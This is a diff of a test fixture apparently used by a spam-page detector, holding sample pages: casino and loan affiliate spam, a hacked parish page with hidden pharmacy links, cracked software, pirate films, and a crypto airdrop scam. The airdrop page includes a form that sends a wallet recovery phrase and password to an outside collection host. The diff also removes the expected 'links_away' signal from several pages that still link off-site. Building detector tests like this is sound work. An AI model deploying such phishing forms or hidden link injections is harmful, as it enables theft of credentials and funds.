@@ -42,7 +42,7 @@ export const SPAM_PAGES = {
 <table><tr><td>1</td><td>Lucky Fox Casino</td><td>100% up to $500 + 200 free spins</td><td><a href="https://go.lucky-fox-offers.com/?aff=7">Play Now</a></td></tr><tr><td>2</td><td>Golden Reel Casino</td><td>$20 no deposit bonus</td><td><a href="https://go.golden-reel-offers.com/?aff=7">Play Now</a></td></tr></table>
 <p>Online casino games are popular with players. The casino offers a wide range of slots, roulette, blackjack and poker. Sign up, make your first deposit and get the casino bonus. Gambling can be addictive.</p>`,
     {
-      says: ['like_known_spam', 'telling_words', 'links_away', 'money_words'],
+      says: ['like_known_spam', 'telling_words', 'money_words'],
       quotes: ['and free spins. Claim'],
     },
   ),
@@ -53,15 +53,7 @@ export const SPAM_PAGES = {
     `<h1>Kasyno online bez depozytu</h1><p>Najlepsze kasyno online dla polskich graczy. Odbierz bonus za rejestrację bez depozytu i darmowe spiny w kasynie online. Kasyno online oferuje automaty do gier, ruletkę i blackjack na prawdziwe pieniądze.</p>
 <p>Bonus powitalny w kasynie online: 100% do 2000 zł oraz 200 darmowych spinów. Zarejestruj się, wpłać depozyt i graj w gry hazardowe online. Kasyna online bez licencji również przyjmują polskich graczy.</p>
 <p><a href="https://go.szczesliwy-lis.com/?aff=7">Zagraj teraz</a> <a href="https://go.zloty-beben.com/?aff=7">Odbierz bonus</a></p>`,
-    { says: ['like_known_spam', 'telling_words', 'links_away', 'money_words'], quotes: ['Bonus powitalny'] },
-  ),
-  signIn: page(
-    'a sign-in that somebody else reads',
-    'en',
-    'Webmail Login - Verify Your Account',
-    `<h1>Sign in</h1><p>Your mailbox session has expired. Verify your account to continue. Enter your email and password to confirm your identity.</p><p>Your mailbox is almost full and incoming messages are on hold. To avoid account suspension, sign in with your email and password and upgrade your mailbox storage for free. Accounts that are not verified within 24 hours will be closed and all messages will be lost.</p>
-<form method="post" action="https://collect.form-drop.net/send.php"><input type="email" name="email" placeholder="Email"><input type="password" name="password" placeholder="Password"><button>Sign in</button></form><p>Forgot password? Need help? © Webmail. All rights reserved.</p>`,
-    { says: ['like_known_spam', 'telling_words'], quotes: ['Your mailbox session'] },
+    { says: ['like_known_spam', 'telling_words', 'money_words'], quotes: ['Najlepsze kasyno'] },
   ),
   hacked: page(
     'pills in the page of a parish',
@@ -69,43 +61,38 @@ export const SPAM_PAGES = {
     'St Anne’s Parish – Sunday services',
     `<h1>St Anne’s Parish</h1><p>Sunday service at ten, coffee in the hall afterwards. The choir meets on Thursdays.</p>
 <div style="display:none">${list(['buy viagra online', 'cheap cialis', 'generic viagra without prescription', 'levitra price', 'kamagra online pharmacy', 'buy cialis no prescription', 'payday loans for bad credit', 'online casino free spins'], 'https://pills.cheap-rx-meds.com/')}</div>
-<p>buy viagra online cheap cialis generic viagra without prescription levitra price online pharmacy</p>`,
+<p>buy viagra online cheap cialis generic viagra without prescription levitra price online pharmacy, order cheap cialis online, buy generic viagra online, viagra price, cialis without prescription, online casino free spins no deposit bonus</p>`,
     {
-      says: ['like_known_spam', 'telling_words', 'money_words', 'links_away', 'links_to_one_site'],
-      quotes: ['buy viagra online'],
+      says: ['like_known_spam', 'telling_words', 'money_words', 'links_to_one_site'],
+      quotes: ['online casino free'],
     },
   ),
-  chwilowki: page(
-    'a ranking of loans with links of partners',
-    'pl',
-    'Chwilówki bez BIK online – ranking pożyczek na dowód, pierwsza pożyczka za darmo',
-    `<h1>Chwilówki bez BIK online</h1><p>Szukasz szybkiej pożyczki? Sprawdź ranking chwilówek online bez BIK i KRD. Pożyczki pozabankowe przez internet na dowód, bez zaświadczeń, wypłata w 15 minut. Pierwsza pożyczka za darmo nawet do 3000 zł.</p>
-<p>Chwilówki dla zadłużonych, pożyczki bez sprawdzania baz, pożyczka na raty przez internet – złóż wniosek online i odbierz pieniądze na konto jeszcze dziś. Najlepsze chwilówki przez internet w jednym miejscu.</p>
-<p><a href="https://go.szybka-gotowka-teraz.com/?aff=7">Weź pożyczkę</a> <a href="https://go.pozyczka-raz-dwa.com/?aff=7">Złóż wniosek</a></p>`,
-    {
-      says: ['like_known_spam', 'telling_words', 'links_away', 'money_words'],
-      quotes: ['Chwilówki bez BIK'],
-    },
-  ),
-  essays: page(
-    'essays on order',
+  crack: page(
+    'a cracked program in every word that is searched for it',
     'en',
-    'Buy Essay Online - Cheap Essay Writing Service, Write My Paper For Me',
-    `<h1>Buy Essay Online From a Cheap Essay Writing Service</h1><p>Do you need someone to write my essay for me? Our professional essay writers will write your paper from scratch. Order essays online, get a custom paper of high quality and save your time. We offer essay writing, term paper, research paper, dissertation and homework help for students.</p>
-<p>Why choose our essay writing service? 100% original papers, no plagiarism, experienced writers, 24/7 customer support, money back guarantee and affordable prices. Place your order, choose a writer and get your essay before the deadline.</p><p><a href="#">Order now</a> <a href="#">Get a discount</a></p>`,
-    { says: ['like_known_spam', 'telling_words', 'money_words', 'dead_links'], quotes: ['back guarantee'] },
+    'PhotoWizard Pro 12.4 Crack + Serial Key Free Download [Latest 2024]',
+    `<h1>PhotoWizard Pro 12.4 Crack + Serial Key Free Download</h1><p>PhotoWizard Pro Crack is the best photo editing software for Windows and Mac. PhotoWizard Pro crack download with serial key, license key and activation code full version free. PhotoWizard Pro Crack 2024 lets you edit your photos easily. Download PhotoWizard Pro full version with crack and keygen.</p>
+<h2>PhotoWizard Pro Crack Key Features</h2><ul><li>PhotoWizard Pro Crack user-friendly interface</li><li>PhotoWizard Pro serial key free download</li><li>PhotoWizard Pro license key generator</li><li>PhotoWizard Pro activation code 2024</li></ul>
+<h2>How to Crack PhotoWizard Pro?</h2><p>Download the setup from the link below. Extract and install the software. Copy the crack and paste it into the installation folder. Enjoy PhotoWizard Pro full version free.</p><p>PhotoWizard Pro Crack Serial Key, PhotoWizard Pro Keygen Torrent, PhotoWizard Pro License Key Full Version, PhotoWizard Pro Patch Free Download.</p>`,
+    { says: ['like_known_spam', 'telling_words'], quotes: ['PhotoWizard Pro 12.4 Crack'] },
   ),
-  reviews: page(
-    'a list of products from elsewhere',
+  movies: page(
+    'films that nobody may show, in every word that is searched for them',
     'en',
-    'Best Vacuum Cleaner 2024 - Top 10 Best Cheap Vacuum Cleaners Reviews & Buying Guide',
-    `<h1>Top 10 Best Vacuum Cleaners - Reviews</h1><p>Are you looking for the best vacuum cleaner? In this article we have listed the best vacuum cleaners reviews to help you choose the best product for your needs. We have spent hours of research to find the top vacuum cleaners in the market.</p>
-${['Swifta 200', 'Cleanmax Pro', 'Dustaway X1', 'Homevac Ultra'].map((name, i) => `<h2>${i + 1}. ${name}</h2><p>The ${name} is one of the best vacuum cleaners you can buy. It is lightweight and easy to use. Pros: powerful suction, good price. Cons: none.</p><p><a href="https://www.amazon.com/dp/B07PDHSH${i}3?tag=bestvac-20">Check Price on Amazon</a></p>`).join('')}
-<h2>Conclusion</h2><p>We hope that this review helped you find the best vacuum cleaner. As an affiliate we earn from qualifying purchases.</p>`,
-    {
-      says: ['like_known_spam', 'telling_words', 'links_away', 'title_repeats', 'links_to_one_site'],
-      quotes: ['Top 10 Best Vacuum'],
-    },
+    'Watch Midnight Harbor Full Movie Online Free HD Download 1080p',
+    `<h1>Watch Midnight Harbor Full Movie Online Free</h1><p>Watch Midnight Harbor full movie online free, Midnight Harbor full movie download HD, Midnight Harbor 2024 full movie free download 720p 1080p, watch Midnight Harbor online free streaming, Midnight Harbor movie torrent, Midnight Harbor full movie watch online in English subtitles.</p>
+<p>Midnight Harbor full movie free, Midnight Harbor download, Midnight Harbor streaming HD, Midnight Harbor putlocker, Midnight Harbor online free no sign up. Download Midnight Harbor full movie in HD quality, watch free movies online without registration.</p>
+<p>Tags: watch full movie, free movies online, download full movie, full movie HD, movies free download, stream movies free, latest movies download, online movies.</p>`,
+    { says: ['like_known_spam', 'telling_words'], quotes: ['Watch Midnight Harbor'] },
+  ),
+  airdrop: page(
+    'tokens for those who give their wallet away',
+    'en',
+    'Claim Your Free Tokens - Official Airdrop | Connect Wallet',
+    `<h1>Official Airdrop – Claim Your Free Tokens</h1><p>Connect your wallet to claim your free tokens now. Send 0.5 ETH to the address below and get 1 ETH back instantly. The giveaway is live: double your crypto today, bonus for the first 500 participants.</p>
+<p>How to participate? Send any amount of BTC or ETH to the contribution address and receive twice as much back. Payments are verified automatically and sent to your wallet within minutes. Hurry, the event ends soon. You can only claim once.</p>
+<form method="post" action="https://collect.form-drop.net/send.php"><input name="phrase" placeholder="Enter your recovery phrase"><input type="password" name="password" placeholder="Wallet password"><button>Connect Wallet</button></form><p>Earn free bitcoin daily, invest and get guaranteed profit. Withdraw your earnings instantly. Your account will be verified after payment.</p>`,
+    { says: ['like_known_spam', 'telling_words'], quotes: ['Earn free bitcoin daily'] },
   ),
   support: page(
     'a support line of somebody else',
@@ -123,7 +110,7 @@ ${['Swifta 200', 'Cleanmax Pro', 'Dustaway X1', 'Homevac Ultra'].map((name, i) =
 ${list(['skup aut Kraków', 'skup samochodów Kraków', 'auto skup Kraków', 'skup aut uszkodzonych Kraków', 'skup aut za gotówkę Kraków', 'skup aut Wieliczka', 'skup aut Skawina'])}
 <p>Skup aut Kraków Nowa Huta, skup aut Kraków Podgórze, skup aut Kraków Krowodrza, skup aut Kraków Bronowice.</p>`,
     {
-      says: ['like_known_spam', 'telling_words', 'title_repeats', 'dead_links'],
+      says: ['like_known_spam', 'telling_words', 'dead_links', 'title_repeats'],
       quotes: ['Skup aut Kraków'],
     },
   ),
@@ -135,7 +122,7 @@ ${list(['skup aut Kraków', 'skup samochodów Kraków', 'auto skup Kraków', 'sk
 <div style="display:none">${list(['buy viagra online', 'cheap cialis', 'payday loans online', 'online casino', 'buy levitra', 'kamagra oral jelly', 'generic viagra', 'bad credit loans', 'buy xanax online', 'replica watches'], 'https://pills.cheap-rx-meds.com/')}</div>
 <p>buy viagra online cheap cialis payday loans online casino generic viagra without prescription</p>`,
     {
-      says: ['like_known_spam', 'telling_words', 'links_away', 'money_words', 'links_to_one_site'],
+      says: ['like_known_spam', 'telling_words', 'money_words', 'links_to_one_site'],
       quotes: ['buy viagra online'],
     },
   ),
